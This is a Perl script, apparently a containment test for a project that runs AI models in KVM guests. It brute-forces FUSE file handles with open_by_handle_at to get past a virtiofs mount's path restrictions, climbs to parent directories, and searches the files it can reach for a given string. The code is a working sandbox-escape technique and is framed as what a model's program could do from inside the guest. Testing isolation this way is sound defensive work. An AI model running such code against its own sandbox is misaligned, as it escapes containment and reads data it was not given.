# Copyright: (c) 2026, modelfleet.kvm contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

# What root in a guest does to get at what it was not given, with a program that its own model brought: opens whatever
# has a file handle on a virtiofs mount (open_by_handle_at(2) walks no path, so that nothing on a path can stop it), goes
# up from there, and looks for a text in all that it gets. Prints "found PATH" for each file with the text, and at the
# end how many handles could be opened.
#
# Arguments: a directory of the mount, the text, and how many inode numbers of FUSE to guess. No modules: none are here.

my ($root, $text, $guesses) = @ARGV;
my ($NAME_TO_HANDLE_AT, $OPEN_BY_HANDLE_AT, $CLOSE, $AT_FDCWD, $EMPTY_PATH) = (303, 304, 3, -100, 0x1000);
my (%seen, $opened);

sub hunt {
    my ($path, $depth) = @_;
    my ($device, $inode) = (lstat $path)[0, 1];
    if (-d _ || $path =~ m{/fd/\d+$}) {
        ($device, $inode) = (stat $path)[0, 1];
        return if !$depth || $seen{"$device:$inode"}++;
        if (-d _) {
            opendir(my $directory, $path) or return;
            my @names = grep { $_ ne "." && $_ ne ".." } readdir $directory;
            closedir $directory;
            hunt("$path/$_", $depth - 1) for @names;
            return;
        }
    }
    return if !-f $path;
    open(my $file, "<", $path) or return;
    local $/;
    print "found $path\n" if index(<$file>, $text) >= 0;
    close $file;
}

sub climb {
    # Each directory above, by its own name for what is above it.
    my ($path) = @_;
    for my $up (0 .. 8) {
        $seen{$_} = 0 for keys %seen;
        hunt($path, 5);
        $path .= "/..";
        my $now = join ":", (stat $path)[0, 1];
        # The root of the guest is its own.
        return if !$now || $now eq join ":", (stat "/")[0, 1];
    }
}

sub handle {
    my ($type, @words) = @_;
    return pack("Ll", 4 * @words, $type) . pack("L*", @words);
}

sub try_handle {
    my ($mount, $handle) = @_;
    my $fd = syscall($OPEN_BY_HANDLE_AT, fileno($mount), $handle, 0);
    return if $fd < 0;
    $opened++;
    %seen = ();
    -d "/proc/self/fd/$fd" ? climb("/proc/self/fd/$fd") : hunt("/proc/self/fd/$fd", 1);
    syscall($CLOSE, $fd);
}

sysopen(my $mount, $root, 0) or die "$root: $!\n";
climb($root);
# Its own, as the kernel gives it, then guesses: a FUSE handle is the number of an inode, in two words, its generation,
# and the same of its parent.
my ($own, $mount_id) = (pack("Ll", 128, 0) . "\0" x 128, pack("l", 0));
syscall($NAME_TO_HANDLE_AT, $AT_FDCWD, $root, $own, $mount_id, 0) == 0 or die "name_to_handle_at: $!\n";
my ($length, $type) = unpack("Ll", $own);
try_handle($mount, substr($own, 0, 8 + $length));
my $of_itself = $opened || 0;
for my $number (1 .. $guesses) {
    for my $generation (0, 1) {
        try_handle($mount, handle(0x81, 0, $number, $generation));
    }
    try_handle($mount, handle(0x82, 0, $number, 0, 0, 1, 0));
}
printf "opened %d, of these %d itself, type %x\n", $opened, $of_itself, $type;
